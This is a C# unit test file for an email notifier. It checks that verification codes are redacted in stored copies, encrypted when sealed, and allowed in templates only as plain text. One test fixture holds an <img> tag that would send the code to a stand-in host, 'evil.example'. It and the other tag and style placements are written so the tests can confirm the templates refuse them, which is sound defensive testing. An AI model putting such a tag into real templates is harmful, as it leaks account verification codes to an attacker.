using System.Security.Cryptography;
using Microsoft.Extensions.Options;
using SalesMind.Notifier.Ledger;
using SalesMind.Notifier.Rendering;

namespace SalesMind.Notifier.UnitTests;

/// <summary>
/// The 6-digit verification code acts on the account like the link: what is stored and shown has
/// it redacted, the working email is kept only sealed, and a template may print it only as text.
/// </summary>
public sealed class SecretCodeTests
{
    private static readonly string[] Variables = ["Username", "VerificationUrl", "VerificationCode", "SiteName"];

    private static EmailVerificationModel Model(string code = "042917") =>
        new("hanako", "https://x.test/api/auth/verify-email/?token=s3cr3t", code, "soon", "S");

    [Fact]
    public void The_verification_codes_are_marked_on_both_verification_models()
    {
        Assert.Equal(["VerificationCode"], TemplateCatalog.SecretCodesOf(typeof(EmailVerificationModel)));
        Assert.Equal(["VerificationCode"], TemplateCatalog.SecretCodesOf(typeof(VerificationReminderModel)));
        Assert.Empty(TemplateCatalog.SecretCodesOf(typeof(PasswordResetModel)));
        Assert.Contains("VerificationCode", SecretLinkPlacement.CodeNames);
    }

    [Fact]
    public void What_is_shown_has_the_code_and_the_link_redacted()
    {
        var values = TemplateCatalog.ValuesOf(Model());

        var shown = TemplateCatalog.Redacted(typeof(EmailVerificationModel), values)!;

        Assert.Equal("[redacted]", shown["VerificationCode"]);
        Assert.Equal("https://x.test/api/auth/verify-email/?token=[redacted]", shown["VerificationUrl"]);
        Assert.Equal("hanako", shown["Username"]);
    }

    [Theory]
    [InlineData("ja")]
    [InlineData("en")]
    public void The_shipped_emails_stored_copy_has_no_code_and_the_sealed_copy_opens_with_it(string locale)
    {
        var template = TemplateCatalog.Find(TemplateKeys.EmailVerification)!;
        var parts = TemplateStore.Parse(
            TemplateCatalog.ShippedSource(template, locale, "subject"), TemplateCatalog.ShippedSource(template, locale, "html"),
            TemplateCatalog.ShippedSource(template, locale, "text"), template.Variables.Select(v => v.Name).ToList());
        var values = TemplateCatalog.ValuesOf(Model());
        var live = TemplateStore.Render(parts, values);
        var shown = TemplateStore.Render(parts, TemplateCatalog.Redacted(typeof(EmailVerificationModel), values)!);
        var sealer = new BodySealer(Options.Create(new BodyEncryptionOptions { BodyEncryptionKey = Convert.ToBase64String(RandomNumberGenerator.GetBytes(32)) }));
        var id = Guid.NewGuid();

        var sealedBody = sealer.Seal(id, live);

        Assert.Contains("042917", live.Text);
        Assert.Contains("042917", live.Html);
        Assert.DoesNotContain("042917", shown.Text + shown.Html + shown.Subject);
        Assert.Contains("[redacted]", shown.Text);
        Assert.DoesNotContain("042917", System.Text.Encoding.UTF8.GetString(sealedBody));
        Assert.Equal(live, sealer.Open(id, sealedBody));
    }

    [Theory]
    [InlineData("""<a href="https://x.test/?c=@Model.VerificationCode">go</a>""")]
    [InlineData("""<img src="https://evil.example/p?c=@Model.VerificationCode">""")]
    [InlineData("""<p title="@Model.VerificationCode">x</p>""")]
    [InlineData("""<a href="@Model.VerificationCode">x</a>""")]
    [InlineData("""<style>.x:after { content: "@Model.VerificationCode" }</style>""")]
    public void A_code_inside_a_tag_or_style_is_refused(string html)
    {
        var problems = Problems("Confirm", html);

        var problem = Assert.Single(Assert.Contains("html", problems));
        Assert.Contains("secret code", problem.Message);
    }

    [Fact]
    public void A_code_in_the_subject_is_refused() =>
        Assert.Contains("subject", Problems("Your code: @Model.VerificationCode", "<p>hi</p>"));

    [Theory]
    [InlineData("""<p>Your code: <b>@Model.VerificationCode</b></p>""")]
    [InlineData("""<p style="font-size:28px">@Model.VerificationCode</p>""")]
    public void As_text_between_tags_it_is_allowed(string html) =>
        Assert.Empty(Problems("Confirm", html));

    private static Dictionary<string, List<TemplateProblem>> Problems(string subject, string html, string text = "@Model.VerificationCode")
    {
        try
        {
            TemplateStore.Parse(subject, html, text, Variables);
            return [];
        }
        catch (TemplateInvalidException ex)
        {
            return ex.Problems.ToDictionary(p => p.Key, p => p.Value);
        }
    }
}
